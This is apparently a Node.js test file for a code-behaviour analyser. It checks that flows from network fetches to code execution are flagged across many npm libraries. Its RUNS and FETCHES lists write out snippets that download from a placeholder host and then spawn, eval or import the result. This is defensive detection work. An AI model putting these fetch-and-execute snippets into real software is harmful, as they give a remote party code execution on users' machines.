import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../../test/behave.ts';

/** Ways to run `s`, one each. */
const RUNS = `
require('@npmcli/promise-spawn')('sh', ['-c', s]);
require('@actions/exec').exec('sh', ['-c', s]);
require('nano-spawn').default('sh', ['-c', s]);
require('child-process-promise').exec(s);
require('shelljs').echo('a').exec(s);
const { createJiti } = require('jiti'); createJiti(__filename).evalModule(s);
const _ = require('lodash'); _.template(s)({ require });
require('ejs').render(s, { require });
require('pug').compile(s)({});
const { NodeVM } = require('vm2'); NodeVM.code(s);
require('module-from-string').requireFromString(s);
const { createJiti } = require('jiti'); createJiti(__filename).import(s);
require('import-fresh')(s);
`;

/** Ways to fetch something that is run then, one each. */
const FETCHES = `
const tc = require('@actions/tool-cache'); tc.downloadTool('https://a.invalid/x').then(p => require('@actions/exec').exec(p));
const { DownloaderHelper } = require('node-downloader-helper'); const d = new DownloaderHelper('https://a.invalid/x', '/tmp'); d.on('end', i => require('child_process').execFile(i.filePath)); d.start();
require('giget').downloadTemplate('https://a.invalid/x.tgz', { dir: 'y' }).then(({ dir }) => import(dir + '/z.mjs'));
require('pacote').tarball('https://a.invalid/x.tgz').then(data => eval(String(data)));
`;

describe('libraries that run, load and fetch code', () => {
  for (const code of RUNS.trim().split('\n'))
    it(`are told: ${code}`, () => {
      const { flows } = behaviourOf({ 'index.js': `fetch('https://a.invalid/x').then(r => r.text()).then(s => { ${code} });` });
      assert.ok(flows.some(({ from, to }) => from.kind === 'connects' && /evaluates|spawns|loads code/.test(to.kind)));
    });

  for (const code of FETCHES.trim().split('\n'))
    it(`are told: ${code}`, () => {
      const { flows } = behaviourOf({ 'index.js': code });
      assert.ok(flows.some(({ from, to }) => from.kind === 'connects' && /evaluates|spawns|loads code/.test(to.kind)));
    });
});
